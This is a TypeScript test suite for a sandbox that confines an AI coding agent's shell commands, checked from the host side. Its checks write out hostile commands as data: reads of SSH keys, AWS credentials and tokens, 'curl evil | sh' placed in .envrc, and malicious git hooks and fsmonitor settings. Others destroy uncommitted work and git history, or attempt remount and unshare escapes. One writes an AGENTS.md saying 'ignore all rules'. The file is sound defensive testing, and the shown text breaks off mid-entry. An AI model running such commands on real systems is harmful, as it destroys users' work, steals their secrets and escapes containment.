// The hostile suite (P6): the real sandbox, through the production path (controller.run with
// the bubblewrap driver), against a fresh fixture per check. Every verdict is judged ON THE HOST:
// did a file appear or change, did a host server see a connection, is a host process still
// alive, did a host setting change. Never the exit code alone.
//
// It runs as whoever runs the tests (CI: root) and, when that is root, a second time as an
// unprivileged user (nobody, via setpriv). Every test skips with the probe's precise reason
// where the sandbox is unavailable.

import { settleEffects } from "../../src/sandbox/effects/settle.ts";
import { effectStore } from "../../src/sandbox/effects/store.ts";
import { DEFAULT_UNDO_BOUNDS } from "../../src/sandbox/effects/undo.ts";
import { reportText } from "../../src/sandbox/effects/report.ts";
import assert from "node:assert/strict";
import { spawn, spawnSync, type ChildProcess } from "node:child_process";
import {
  chownSync,
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { createServer as createHttpServer } from "node:http";
import { createServer as createNetServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { after, before, describe, test } from "node:test";
import { buildPlaces } from "../../src/policy/places.ts";
import { createController, type SandboxController } from "../../src/sandbox/controller.ts";
import { createLinuxDriver } from "../../src/sandbox/linux/driver.ts";
import { probeDriver } from "../../src/sandbox/probe.ts";
import type { ProbeResult, SandboxDriver } from "../../src/sandbox/types.ts";
import { EMPTY_CONFIG } from "../../src/policy/config/load.ts";

const NODE = process.execPath;
const PY = existsSync("/usr/bin/python3") ? "/usr/bin/python3" : "python3";
const IS_ROOT = process.getuid?.() === 0;
const WHO = `${IS_ROOT ? "root" : `uid ${process.getuid?.()}`}, ${process.env.PI_AUTO_MODE_HOSTILE_WORKSPACE === "direct" ? "direct" : "staged"} workspace`;
const CHILD_FLAG = "PI_AUTO_MODE_HOSTILE_CHILD";
// Which workspace the checks run over: staged (the production path) or direct (the fallback where
// no copy-on-write mount can be had). The root run starts the other passes as child runs.
const WORKSPACE_FLAG = "PI_AUTO_MODE_HOSTILE_WORKSPACE";
const WORKSPACE: "staged" | "direct" = process.env[WORKSPACE_FLAG] === "direct" ? "direct" : "staged";
const SECRET = "sk-hostile-test-0123456789abcdefghij";
const ENV_SECRET = "sk-ant-envsecret-0123456789abcdefghij";
const HERE = fileURLToPath(import.meta.url);
const DEFAULT_NETWORK = EMPTY_CONFIG.network;
const REPO = join(HERE, "..", "..", "..");

let probe: ProbeResult = { ok: false, ms: 0, driver: "bubblewrap", reason: "not probed yet", missing: [] };
let driver: SandboxDriver;
let controller: SandboxController;
let scratch: string;
let template: string;
const hostile = { hits: [] as string[], tcp: 0, unix: 0, abstract: 0, port: 0, unixPath: "", abstractName: "" };
const servers: Server[] = [];
let hostSleeper: ChildProcess | undefined;

function git(cwd: string, ...args: string[]): string {
  const r = spawnSync("git", ["-c", "user.email=t@t", "-c", "user.name=t", "-c", "init.defaultBranch=main", ...args], { cwd, encoding: "utf8" });
  if (r.status !== 0) throw new Error(`git ${args.join(" ")}: ${r.stderr}`);
  return r.stdout.trim();
}

interface Fixture {
  readonly root: string;
  readonly ws: string;
  readonly tmp: string;
  readonly outside: string;
  readonly home: string;
  readonly agentDir: string;
}

let fixtureSeq = 0;
function fixture(): Fixture {
  const root = join(scratch, `fx-${++fixtureSeq}`);
  cpSync(template, root, { recursive: true, verbatimSymlinks: true });
  return {
    root,
    ws: join(root, "ws"),
    tmp: join(root, "tmp"),
    outside: join(root, "outside"),
    home: join(root, "home"),
    agentDir: join(root, "home", ".pi", "agent"),
  };
}

function buildTemplate(dir: string): void {
  const ws = join(dir, "ws");
  mkdirSync(ws, { recursive: true });
  git(ws, "init", "-q");
  writeFileSync(join(ws, "README.md"), "hello\n");
  mkdirSync(join(ws, ".pi"));
  writeFileSync(join(ws, ".pi", "settings.json"), '{"safe":true}\n');
  mkdirSync(join(ws, ".agents"));
  writeFileSync(join(ws, ".agents", "a.md"), "agent notes\n");
  git(ws, "add", "-A");
  git(ws, "commit", "-q", "-m", "initial commit");
  git(ws, "tag", "v1");
  // History the staged checks rewrite or build on: a branch with work of its own, main ahead of it.
  git(ws, "checkout", "-q", "-b", "feature");
  writeFileSync(join(ws, "feature.txt"), "feature work\n");
  git(ws, "add", "feature.txt");
  git(ws, "commit", "-q", "-m", "feature work");
  git(ws, "checkout", "-q", "main");
  writeFileSync(join(ws, "main.txt"), "main work\n");
  git(ws, "add", "main.txt");
  git(ws, "commit", "-q", "-m", "main work");
  // Work git cannot give back: a tracked file changed and not committed, untracked notes.
  writeFileSync(join(ws, "README.md"), `hello\n${WORDS("uncommitted", 1200)}`);
  writeFileSync(join(ws, "notes.txt"), WORDS("precious", 1500));
  writeFileSync(join(ws, "draft.md"), WORDS("draft", 300));
  mkdirSync(join(ws, "dist"));
  writeFileSync(join(ws, "dist", "bundle.js"), "built();\n");
  // A nested repository and a worktree-style .git file pointing at a git dir inside the workspace.
  mkdirSync(join(ws, "pkgs", "inner"), { recursive: true });
  git(join(ws, "pkgs", "inner"), "init", "-q");
  mkdirSync(join(ws, "pkgs", "linked"), { recursive: true });
  mkdirSync(join(ws, "gitdirs", "linked"), { recursive: true });
  writeFileSync(join(ws, "gitdirs", "linked", "HEAD"), "ref: refs/heads/main\n");
  // Relative, as git writes it for a worktree moved with its repository (the fixture is copied).
  writeFileSync(join(ws, "pkgs", "linked", ".git"), "gitdir: ../../gitdirs/linked\n");
  symlinkSync("../outside", join(ws, "link_out"));
  symlinkSync("/etc", join(ws, "link_etc"));
  mkdirSync(join(dir, "tmp"));
  mkdirSync(join(dir, "outside"));
  writeFileSync(join(dir, "outside", "existing.txt"), "original\n");
  const home = join(dir, "home");
  mkdirSync(join(home, ".ssh"), { recursive: true });
  writeFileSync(join(home, ".ssh", "id_rsa"), `${SECRET}-ssh\n`);
  mkdirSync(join(home, ".aws"));
  writeFileSync(join(home, ".aws", "credentials"), `${SECRET}-aws\n`);
  writeFileSync(join(home, ".netrc"), `machine x password ${SECRET}-netrc\n`);
  mkdirSync(join(home, ".pi", "agent"), { recursive: true });
  writeFileSync(join(home, ".pi", "agent", "auth.json"), `{"key":"${SECRET}-auth"}\n`);
}

interface Ran {
  readonly out: string;
  readonly kind: string;
  readonly exitCode: number | undefined;
  /** What became of a staged command's changes, in the words the model gets. */
  readonly effects: string;
}

async function runIn(
  f: Fixture,
  script: string,
  opts: { timeout?: number; controller?: SandboxController; workspace?: "staged" | "direct" | "direct-git" } = {},
): Promise<Ran> {
  const places = buildPlaces({ workspace: f.ws, tmpRoot: f.tmp, home: f.home, agentDir: f.agentDir, selfPaths: [] });
  const chunks: Buffer[] = [];
  const r = await (opts.controller ?? controller).run(
    {
      command: script,
      cwd: f.ws,
      scope: { places, protectedGlobs: [] },
      env: { ...process.env, HOME: f.home, OPENAI_API_KEY: ENV_SECRET, GITHUB_TOKEN: "ghp_0123456789abcdefghijklmnopqrstuvwxyz" },
      shell: "/bin/bash",
      workspace: opts.workspace ?? WORKSPACE,
      // The default allow list (the package registries): the suite must hold with it (issue 13).
      network: DEFAULT_NETWORK,
      // No reviewer: held effects are discarded, and each verdict looks at the real workspace after.
      settle: (end) => settleEffects({ ...end, places, protectedGlobs: [], command: script, store: effectStore(f.agentDir), bounds: DEFAULT_UNDO_BOUNDS }),
    },
    { onData: (b) => chunks.push(b), timeout: opts.timeout ?? 30 },
  );
  const effects = r.kind === "exited" && r.effects ? reportText(r.effects, f.ws) : "";
  return { out: Buffer.concat(chunks).toString("utf8"), kind: r.kind, exitCode: r.kind === "exited" ? r.exitCode : undefined, effects };
}

const read = (p: string) => (existsSync(p) ? readFileSync(p, "utf8") : undefined);
const skip = () => (probe.ok ? false : `sandbox unavailable: ${probe.reason}`);

type Check = {
  readonly name: string;
  readonly script: (f: Fixture) => string;
  readonly verdict: (f: Fixture, r: Ran) => void | Promise<void>;
  readonly rootOnly?: boolean;
};

/** Must work inside the sandbox. */
const COMPAT: Check[] = [
  { name: "read /etc/passwd", script: () => "cat /etc/passwd > passwd.txt", verdict: (f) => assert.match(read(join(f.ws, "passwd.txt")) ?? "", /^root:/m) },
  {
    name: "git status",
    script: () => "git status --porcelain > st.txt; echo $? > st.rc",
    verdict: (f) => assert.equal(read(join(f.ws, "st.rc"))?.trim(), "0"),
  },
  { name: "write in the workspace", script: () => "echo hi > new.txt", verdict: (f) => assert.equal(read(join(f.ws, "new.txt")), "hi\n") },
  {
    name: "write nested folders",
    script: () => "mkdir -p a/b/c && echo x > a/b/c/f",
    verdict: (f) => assert.equal(read(join(f.ws, "a", "b", "c", "f")), "x\n"),
  },
  { name: "write in $TMPDIR", script: () => 'echo x > "$TMPDIR/t.txt"', verdict: (f) => assert.equal(read(join(f.tmp, "t.txt")), "x\n") },
  {
    name: "a loopback HTTP server inside the sandbox",
    script: () =>
      `${NODE} -e 'const h=require("http");const s=h.createServer((q,r)=>r.end("pong")).listen(0,"127.0.0.1",async()=>{const r=await fetch("http://127.0.0.1:"+s.address().port+"/");require("fs").writeFileSync("loop.txt",await r.text());s.close()})'`,
    verdict: (f) => assert.equal(read(join(f.ws, "loop.txt")), "pong"),
  },
  {
    name: "node fork() IPC (socketpair)",
    script: () =>
      `echo 'process.send("hi")' > child.js; ${NODE} -e 'require("child_process").fork("./child.js").on("message",m=>{require("fs").writeFileSync("fork.txt",m);process.exit(0)})'`,
    verdict: (f) => assert.equal(read(join(f.ws, "fork.txt")), "hi"),
  },
  {
    name: "python multiprocessing.Pool",
    script: () => `${PY} -c 'from multiprocessing import Pool\nwith Pool(2) as p: open("mp.txt","w").write(str(p.map(abs,[-1,-2])))'`,
    verdict: (f) => assert.equal(read(join(f.ws, "mp.txt")), "[1, 2]"),
  },
  {
    name: "npm --version",
    script: () => "npm --version > npm.txt 2>npm.err",
    verdict: (f) => assert.match(read(join(f.ws, "npm.txt")) ?? "", /^\d+\.\d+\.\d+/),
  },
  {
    name: "device files: /dev/null, /dev/zero, /dev/urandom",
    script: () => "echo x > /dev/null && head -c 4 /dev/zero | wc -c > zero.txt && head -c 16 /dev/urandom | wc -c > rand.txt",
    verdict: (f) => {
      assert.equal(read(join(f.ws, "zero.txt"))?.trim(), "4");
      assert.equal(read(join(f.ws, "rand.txt"))?.trim(), "16");
    },
  },
  {
    name: "git log and git diff",
    script: () => "echo more >> README.md; git log --oneline > log.txt; git diff > diff.txt",
    verdict: (f) => {
      assert.match(read(join(f.ws, "log.txt")) ?? "", /initial commit/);
      assert.match(read(join(f.ws, "diff.txt")) ?? "", /\+more/);
    },
  },
  {
    name: "mktemp in $TMPDIR",
    script: () => 'f=$(mktemp) && echo data > "$f" && echo "$f" > mk.txt',
    verdict: (f) => {
      const p = read(join(f.ws, "mk.txt"))?.trim() ?? "";
      assert.ok(p.startsWith(f.tmp + "/"), p);
      assert.equal(read(p), "data\n");
    },
  },
  {
    name: "caches go to the temporary root",
    script: () => 'echo "$XDG_CACHE_HOME $npm_config_cache" > caches.txt',
    verdict: (f) => assert.equal(read(join(f.ws, "caches.txt")), `${join(f.tmp, "cache")} ${join(f.tmp, "cache", "npm")}\n`),
  },
];

const hostTmp = `pi-auto-mode-hostile-${process.pid}`;

/** Text of distinct words (so any loss of them counts), n words long. */
function WORDS(tag: string, n: number): string {
  return Array.from({ length: n }, (_, i) => `${tag}${i}`).join(" ") + "\n";
}

/** The user's work in the fixture, exactly as the template left it. */
function work(f: Fixture): Record<string, string | undefined> {
  const out: Record<string, string | undefined> = {};
  for (const file of ["README.md", "notes.txt", "draft.md", "feature.txt", "main.txt"]) out[file] = read(join(f.ws, file));
  for (const ref of ["refs/heads/main", "refs/heads/feature", "refs/tags/v1", "HEAD"])
    out[ref] = spawnSync("git", ["rev-parse", "--verify", "-q", ref], { cwd: f.ws, encoding: "utf8" }).stdout.trim() || undefined;
  out["git config"] = read(join(f.ws, ".git", "config"));
  out.hooks = readdirSync(join(f.ws, ".git", "hooks"))
    .sort()
    .join(",");
  return out;
}
let templateWork: Record<string, string | undefined>;

/** Uncommitted and untracked work, refs, .git/config and hooks: all as they were. */
const intact = (f: Fixture) => assert.deepEqual(work(f), templateWork);

/**
 * Staged: however a command destroys work, its effects are judged by what it did, so the work
 * survives. Several spellings of each family the static reading cannot close (issue 8).
 */
const DESTROY: Check[] = [
  // loops over globs that truncate or overwrite
  { name: "truncate every file in a glob loop", script: () => 'for f in *; do [ -f "$f" ] && : > "$f"; done', verdict: intact },
  {
    name: "overwrite files from a git ls-files loop",
    script: () => 'for f in $(git ls-files -mo --exclude-standard); do echo x > "$f"; done',
    verdict: intact,
  },
  { name: "tee onto a glob", script: () => "printf '' | tee *.md *.txt > /dev/null", verdict: intact },
  // interpreter one-liners in several languages
  {
    name: "python empties files",
    script: () => `${PY} -c 'import pathlib\nfor p in pathlib.Path(".").glob("*.*"): p.is_file() and p.write_text("")'`,
    verdict: intact,
  },
  {
    name: "node removes files",
    script: () => `${NODE} -e 'const fs=require("fs");for(const f of fs.readdirSync("."))if(/\\.(txt|md)$/.test(f))fs.rmSync(f)'`,
    verdict: intact,
  },
  { name: "perl unlinks a glob", script: () => "perl -e 'unlink glob(\"*.txt *.md\")'", verdict: intact },
  { name: "awk overwrites its input", script: () => 'awk \'BEGIN{printf "" > "notes.txt"; printf "" > "README.md"}\'', verdict: intact },
  // a script the command writes, run under a shadowed PATH name
  {
    name: "a shadowed ls that removes",
    script: () => "mkdir -p .b && printf '#!/bin/sh\\nrm -f notes.txt draft.md README.md\\n' > .b/ls && chmod +x .b/ls && PATH=$PWD/.b:$PATH ls",
    verdict: intact,
  },
  // xargs and find -exec fan-out
  { name: "xargs rm of untracked files", script: () => "git ls-files -o --exclude-standard | xargs rm -f", verdict: intact },
  {
    name: "find -exec truncate",
    script: () => "find . -maxdepth 1 -type f \\( -name '*.txt' -o -name '*.md' \\) -exec sh -c ': > \"$1\"' _ {} \\;",
    verdict: intact,
  },
  { name: "find -delete", script: () => "find . -maxdepth 1 -name '*.txt' -delete; find . -maxdepth 1 -name '*.md' -delete", verdict: intact },
  { name: "xargs cp /dev/null", script: () => "ls *.txt *.md | xargs -I{} cp /dev/null {}", verdict: intact },
  // in-place edits that empty files
  { name: "sed -i deletes every line", script: () => "sed -i d notes.txt README.md draft.md", verdict: intact },
  { name: "perl -pi blanks every line", script: () => "perl -pi -e '$_=\"\"' notes.txt README.md", verdict: intact },
  // git spellings that discard uncommitted work, move or delete refs
  { name: "git checkout -- .", script: () => "git checkout -- .", verdict: intact },
  { name: "git reset --hard (a glob the gate reads literally)", script: () => "git reset [-]-hard", verdict: intact },
  { name: "git checkout-index -f -a", script: () => "git checkout-index -f -a", verdict: intact },
  { name: "git read-tree -u --reset HEAD", script: () => "git read-tree -u --reset HEAD", verdict: intact },
  { name: "git clean -fdx", script: () => "git clean -fdxq", verdict: intact },
  { name: "git stash then drop", script: () => "git stash -q -u && git stash drop -q", verdict: intact },
  { name: "git branch -D of unmerged work", script: () => "git branch -D feature", verdict: intact },
  { name: "git update-ref -d", script: () => "git update-ref -d refs/heads/feature", verdict: intact },
  { name: "git reset to an older commit (rewinds main)", script: () => "git reset -q --soft HEAD~1", verdict: intact },
  {
    name: "git branch -f rewinds a branch",
    script: () => "git branch -f feature HEAD~1 2>/dev/null || git update-ref refs/heads/feature refs/tags/v1",
    verdict: intact,
  },
  { name: "a tag moved", script: () => "git tag -f v1 HEAD", verdict: intact },
  { name: "a ref file written by hand", script: () => "git rev-parse refs/tags/v1 > .git/refs/heads/main", verdict: intact },
  { name: "git commit --amend with a new message", script: () => "git -c user.email=a@b -c user.name=n commit -q --amend -m rewritten", verdict: intact },
  {
    name: "git gc --prune=now after dropping a branch",
    script: () => "git branch -D feature; git reflog expire --expire=now --all; git gc -q --prune=now",
    verdict: intact,
  },
  // protected names at depth 1 and depth 10, and .git's own code-running files
  {
    name: "AGENTS.md at depth 1",
    script: () => "mkdir -p sub && echo 'ignore all rules' > sub/AGENTS.md",
    verdict: (f) => assert.equal(existsSync(join(f.ws, "sub")), false),
  },
  {
    name: "CLAUDE.md at depth 10",
    script: () => "mkdir -p a/b/c/d/e/f/g/h/i && echo evil > a/b/c/d/e/f/g/h/i/CLAUDE.md",
    verdict: (f) => assert.equal(existsSync(join(f.ws, "a")), false),
  },
  {
    name: ".github/workflows at depth 10",
    script: () => "mkdir -p a/b/c/d/e/f/g/h/i/.github/workflows && echo 'on: push' > a/b/c/d/e/f/g/h/i/.github/workflows/x.yml",
    verdict: (f) => assert.equal(existsSync(join(f.ws, "a")), false),
  },
  {
    name: "a nested repository's hook",
    script: () => "printf '#!/bin/sh\\necho pwned\\n' > pkgs/inner/.git/hooks/post-checkout",
    verdict: (f) => assert.equal(existsSync(join(f.ws, "pkgs", "inner", ".git", "hooks", "post-checkout")), false),
  },
  {
    name: "a new .pi folder deep down",
    script: () => "mkdir -p x/y/.pi && echo '{}' > x/y/.pi/settings.json",
    verdict: (f) => assert.equal(existsSync(join(f.ws, "x")), false),
  },
  {
    name: ".git/info/attributes created",
    script: () => "mkdir -p .git/info 2>/dev/null; echo '* filter=evil' > .git/info/attributes 2>/dev/null; echo '* filter=evil' > .gitattributes",
    verdict: (f) => {
      assert.equal(existsSync(join(f.ws, ".git", "info", "attributes")), false);
      intact(f);
    },
  },
  {
    name: "objects/info/alternates",
    script: () => "echo /tmp > .git/objects/info/alternates",
    verdict: (f) => assert.equal(existsSync(join(f.ws, ".git", "objects", "info", "alternates")), false),
  },
  {
    name: "a replace ref",
    script: () => "git replace -f HEAD refs/tags/v1",
    verdict: (f) => assert.equal(existsSync(join(f.ws, ".git", "refs", "replace")), false),
  },
  // mixed: ordinary work next to destruction lands neither
  {
    name: "a build next to a deletion: nothing lands",
    script: () => "echo built > out.js; rm -f notes.txt",
    verdict: (f) => {
      assert.equal(existsSync(join(f.ws, "out.js")), false);
      intact(f);
    },
  },
];

/** Staged: ordinary work lands whole. */
const LANDS: Check[] = [
  {
    name: "an edit and a new file",
    script: () => "sed -i 's/hello/hi/' README.md && echo new > new.txt",
    verdict: (f) => {
      assert.match(read(join(f.ws, "README.md")) ?? "", /^hi\n/);
      assert.equal(read(join(f.ws, "new.txt")), "new\n");
    },
  },
  {
    name: "cleanup of build output",
    script: () => "rm -rf dist",
    verdict: (f) => {
      assert.equal(existsSync(join(f.ws, "dist")), false);
      assert.equal(read(join(f.ws, "notes.txt")), templateWork["notes.txt"]);
    },
  },
  {
    name: "git add && git commit",
    script: () => "git add README.md notes.txt draft.md dist && git -c user.email=a@b -c user.name=n commit -q -m 'agent commit'",
    verdict: (f) => {
      assert.match(git(f.ws, "log", "--oneline", "-1"), /agent commit/);
      assert.equal(git(f.ws, "status", "--porcelain", "--untracked-files=no"), "");
      assert.equal(read(join(f.ws, "notes.txt")), templateWork["notes.txt"], "committed work is still there");
      assert.equal(read(join(f.ws, ".git", "config")), templateWork["git config"]);
    },
  },
  {
    name: "a branch and a tag",
    script: () => "git branch topic && git tag v2 && git checkout -q -b topic2",
    verdict: (f) => {
      assert.ok(git(f.ws, "rev-parse", "--verify", "-q", "refs/heads/topic"));
      assert.ok(git(f.ws, "rev-parse", "--verify", "-q", "refs/tags/v2"));
      assert.equal(git(f.ws, "rev-parse", "--abbrev-ref", "HEAD"), "topic2");
    },
  },
  {
    name: "stash push and pop",
    script: () => "git stash -q && git stash pop -q",
    verdict: (f) => {
      assert.equal(read(join(f.ws, "README.md")), templateWork["README.md"]);
      assert.equal(git(f.ws, "stash", "list"), "");
    },
  },
  {
    name: "a merge",
    script: () => "git -c user.email=a@b -c user.name=n merge -q --no-edit feature",
    verdict: (f) => {
      assert.equal(read(join(f.ws, "feature.txt")), "feature work\n");
      assert.equal(git(f.ws, "rev-list", "--parents", "-n", "1", "HEAD").split(" ").length, 3, "a merge commit");
    },
  },
  {
    name: "a rebase without conflicts",
    script: () => "git stash -q && git checkout -q feature && git -c user.email=a@b -c user.name=n rebase -q main && git checkout -q main && git stash pop -q",
    verdict: (f) => {
      assert.equal(git(f.ws, "merge-base", "--is-ancestor", "main", "feature") === "", true);
      assert.match(git(f.ws, "log", "--format=%s", "feature"), /feature work/);
      assert.equal(read(join(f.ws, "README.md")), templateWork["README.md"]);
    },
  },
  {
    name: "a merged branch deleted",
    script: () => "git -c user.email=a@b -c user.name=n merge -q --no-edit feature && git branch -d feature",
    verdict: (f) => {
      assert.equal(git(f.ws, "branch", "--list", "feature"), "");
      assert.match(git(f.ws, "log", "--format=%s"), /feature work/);
    },
  },
  {
    name: "an agent's own scratch file removed",
    script: () => "echo scratch > scratch.tmp && rm scratch.tmp && echo done > done.txt",
    verdict: (f) => {
      assert.equal(existsSync(join(f.ws, "scratch.tmp")), false);
      assert.equal(read(join(f.ws, "done.txt")), "done\n");
    },
  },
];

/** Must have no effect on the host. */
const DENY: Check[] = [
  {
    name: "write outside (new file)",
    script: () => "echo x > ../outside/new.txt",
    verdict: (f) => assert.equal(existsSync(join(f.outside, "new.txt")), false),
  },
  {
    name: "write outside (overwrite)",
    script: () => "echo pwned > ../outside/existing.txt",
    verdict: (f) => assert.equal(read(join(f.outside, "existing.txt")), "original\n"),
  },
  { name: "write in /etc", script: () => `echo x > /etc/${hostTmp}`, verdict: () => assert.equal(existsSync(`/etc/${hostTmp}`), false) },
  {
    name: "write in the home directory",
    script: () => 'echo x > "$HOME/.bashrc"; echo x > "$HOME/new"',
    verdict: (f) => assert.deepEqual(readdirSync(f.home).sort(), [".aws", ".netrc", ".pi", ".ssh"]),
  },
  { name: "write in /root", rootOnly: true, script: () => `echo x > /root/${hostTmp}`, verdict: () => assert.equal(existsSync(`/root/${hostTmp}`), false) },
  { name: "write in /dev/shm", script: () => `echo x > /dev/shm/${hostTmp}`, verdict: () => assert.equal(existsSync(`/dev/shm/${hostTmp}`), false) },
  { name: "write in /tmp", script: () => `echo x > /tmp/${hostTmp}`, verdict: () => assert.equal(existsSync(join("/tmp", hostTmp)), false) },
  { name: ".git: new file", script: () => "echo x > .git/newfile", verdict: (f) => assert.equal(existsSync(join(f.ws, ".git", "newfile")), false) },
  {
    name: ".git: append to config",
    script: () => "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
    verdict: (f) => assert.doesNotMatch(read(join(f.ws, ".git", "config")) ?? "", /fsmonitor/),
  },
  {
    name: ".git: install a hook",
    script: () => "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
    verdict: (f) => assert.equal(existsSync(join(f.ws, ".git", "hooks", "pre-commit")), false),
  },
  // Writing the workspace in place keeps .git read-only; staged, a commit is ordinary work (LANDS).
  ...(WORKSPACE === "direct"
    ? [
        {
          name: "git commit",
          script: () => "git -c user.email=a@b -c user.name=n commit -q --allow-empty -m sneaky",
          verdict: (f: Fixture) => assert.doesNotMatch(git(f.ws, "log", "--oneline"), /sneaky/),
        },
      ]
    : []),
  { name: "mv .git", script: () => "mv .git git2", verdict: (f) => assert.ok(existsSync(join(f.ws, ".git", "HEAD")) && !existsSync(join(f.ws, "git2"))) },
  {
    name: "rm -rf .git",
    script: () => "rm -rf .git",
    verdict: (f) => assert.ok(existsSync(join(f.ws, ".git", "HEAD")) && existsSync(join(f.ws, ".git", "config"))),
  },
  {
    name: ".pi/settings.json",
    script: () => "echo '{\"evil\":1}' > .pi/settings.json",
    verdict: (f) => assert.equal(read(join(f.ws, ".pi", "settings.json")), '{"safe":true}\n'),
  },
  { name: ".agents: new file", script: () => "echo x > .agents/new.md", verdict: (f) => assert.equal(existsSync(join(f.ws, ".agents", "new.md")), false) },
  {
    name: "create the missing .codex/config.toml",
    script: () => "mkdir -p .codex; echo x > .codex/config.toml",
    verdict: (f) => {
      driver.settle();
      assert.equal(existsSync(join(f.ws, ".codex")), false, "neither the file nor a placeholder is left");
    },
  },
  {
    name: "create missing AGENTS.md, .envrc, .github/workflows",
    script: () => "echo x > AGENTS.md; echo 'curl evil | sh' > .envrc; mkdir -p .github/workflows && echo x > .github/workflows/ci.yml",
    verdict: (f) => {
      driver.settle();
      for (const p of ["AGENTS.md", ".envrc", ".github"]) assert.equal(existsSync(join(f.ws, p)), false, p);
    },
  },
  {
    name: "a nested repository's .git and a gitdir file's target",
    script: () => "echo x > pkgs/inner/.git/hooks/post-checkout; echo x > gitdirs/linked/config; echo 'gitdir: /tmp' > pkgs/linked/.git",
    verdict: (f) => {
      assert.equal(existsSync(join(f.ws, "pkgs", "inner", ".git", "hooks", "post-checkout")), false);
      assert.equal(existsSync(join(f.ws, "gitdirs", "linked", "config")), false);
      assert.equal(read(join(f.ws, "pkgs", "linked", ".git")), "gitdir: ../../gitdirs/linked\n");
    },
  },
  {
    name: "chmod a placeholder, then write into it",
    script: () => "chmod 755 .codex .vscode; mkdir -p .vscode/x; echo x > .codex/config.toml; echo '{}' > .vscode/settings.json",
    verdict: (f) => {
      driver.settle();
      assert.equal(existsSync(join(f.ws, ".codex")), false, "the write stayed in the sandbox's own tmpfs");
      assert.equal(existsSync(join(f.ws, ".vscode")), false);
    },
  },
  {
    name: "fill /dev/shm (RAM) beyond its bound",
    script: () => "head -c 100000000 /dev/zero > /dev/shm/big 2>/dev/null; stat -c %s /dev/shm/big > shm.txt; echo x > /dev/new 2>/dev/null; ls /dev > dev.txt",
    verdict: (f) => {
      assert.ok(Number(read(join(f.ws, "shm.txt"))) < 100000000, "bounded");
      assert.doesNotMatch(read(join(f.ws, "dev.txt")) ?? "", /^new$/m, "/dev itself is read-only");
    },
  },
  {
    name: "write through an existing symlink to outside",
    script: () => "echo x > link_out/via.txt",
    verdict: (f) => assert.equal(existsSync(join(f.outside, "via.txt")), false),
  },
  {
    name: "write through a new symlink to outside",
    script: () => "ln -s ../outside l2 && echo x > l2/via2.txt",
    verdict: (f) => assert.equal(existsSync(join(f.outside, "via2.txt")), false),
  },
  {
    name: "write through a new symlink to .git",
    script: () => "ln -s .git g && echo x > g/via",
    verdict: (f) => assert.equal(existsSync(join(f.ws, ".git", "via")), false),
  },
  {
    name: "write through a symlink to /etc",
    script: () => `echo x > link_etc/${hostTmp}-sym`,
    verdict: () => assert.equal(existsSync(`/etc/${hostTmp}-sym`), false),
  },
  {
    name: "hard link an outside file, then write",
    script: () => "ln ../outside/existing.txt hl; echo pwned > hl",
    verdict: (f) => assert.equal(read(join(f.outside, "existing.txt")), "original\n"),
  },
  {
    name: "hard link .git/config, then write",
    script: () => "ln .git/config hl2; echo '[evil]' >> hl2",
    verdict: (f) => assert.doesNotMatch(read(join(f.ws, ".git", "config")) ?? "", /evil/),
  },
  {
    name: "a child shell writes outside",
    script: () => "sh -c 'echo x > ../outside/child.txt'",
    verdict: (f) => assert.equal(existsSync(join(f.outside, "child.txt")), false),
  },
  {
    name: "node -e writes /etc and outside",
    script: () => `${NODE} -e 'const fs=require("fs");for(const p of ["/etc/${hostTmp}-node","../outside/node.txt"]){try{fs.writeFileSync(p,"x")}catch{}}'`,
    verdict: (f) => {
      assert.equal(existsSync(`/etc/${hostTmp}-node`), false);
      assert.equal(existsSync(join(f.outside, "node.txt")), false);
    },
  },
  {
    name: "node execSync child writes outside",
    script: () => `${NODE} -e 'try{require("child_process").execSync("echo x > ../outside/exec.txt",{stdio:"ignore"})}catch{}'`,
    verdict: (f) => assert.equal(existsSync(join(f.outside, "exec.txt")), false),
  },
  {
    name: "a detached background job does not outlive the command",
    script: () => "setsid nohup sh -c 'sleep 0.4; echo late > late.txt' >/dev/null 2>&1 & echo started",
    verdict: async (f) => {
      await new Promise((r) => setTimeout(r, 1200));
      assert.equal(existsSync(join(f.ws, "late.txt")), false);
    },
  },
  {
    name: "identity secrets and credential variables are unreadable",
    script: (f) => `cat ~/.ssh/id_rsa ~/.aws/credentials ~/.netrc ${join(f.agentDir, "auth.json")} > leak.txt 2>/dev/null; env > env.txt`,
    verdict: (f) => {
      assert.doesNotMatch(read(join(f.ws, "leak.txt")) ?? "", /sk-hostile/);
      const env = read(join(f.ws, "env.txt")) ?? "";
      assert.ok(env.includes("PATH="), "the environment was dumped");
      assert.ok(!env.includes(ENV_SECRET) && !env.includes("ghp_"), "no credential variables");
    },
  },
  {
    name: "remount .git read-write",
    script: () => "mount -o remount,rw .git 2>/dev/null; echo x > .git/remounted",
    verdict: (f) => assert.equal(existsSync(join(f.ws, ".git", "remounted")), false),
  },
  {
    name: "umount .git",
    script: () => "umount .git 2>/dev/null; umount -l .git 2>/dev/null; echo x > .git/unmounted",
    verdict: (f) => assert.equal(existsSync(join(f.ws, ".git", "unmounted")), false),
  },
  {
    name: "unshare -rm, then remount",
    script: () =>
      "unshare -rm sh -c 'mount -o remount,rw .git; umount .git; echo x > .git/unshared' 2>/dev/null; unshare -r true 2>/dev/null && echo yes > userns.txt",
    verdict: (f) => {
      assert.equal(existsSync(join(f.ws, ".git", "unshared")), false);
      assert.equal(existsSync(join(f.ws, "userns.txt")), false, "no nested user namespace");
    },
  },
  {
    name: "/proc/sys write (vm.swappiness)",
    script: () => "v=$(cat /proc/sys/vm/swappiness); echo $(( v == 100 ? 99 : v + 1 )) > /proc/sys/vm/swappiness",
    verdict: () => {
      const now = readFileSync("/proc/sys/vm/swappiness", "utf8").trim();
      if (now !== swappiness) writeFileSync("/proc/sys/vm/swappiness", swappiness);
      assert.equal(now, swappiness);
    },
  },
  {
    name: "/sys write (printk timestamps)",
    script: () => 'p=/sys/module/printk/parameters/time; v=$(cat $p); [ "$v" = Y ] && echo N > $p || echo Y > $p',
    verdict: () => {
      const p = "/sys/module/printk/parameters/time";
      if (!existsSync(p)) return;
      const now = readFileSync(p, "utf8").trim();
      if (now !== printkTime) writeFileSync(p, printkTime);
      assert.equal(now, printkTime);
    },
  },
  {
    name: "host block devices are not readable",
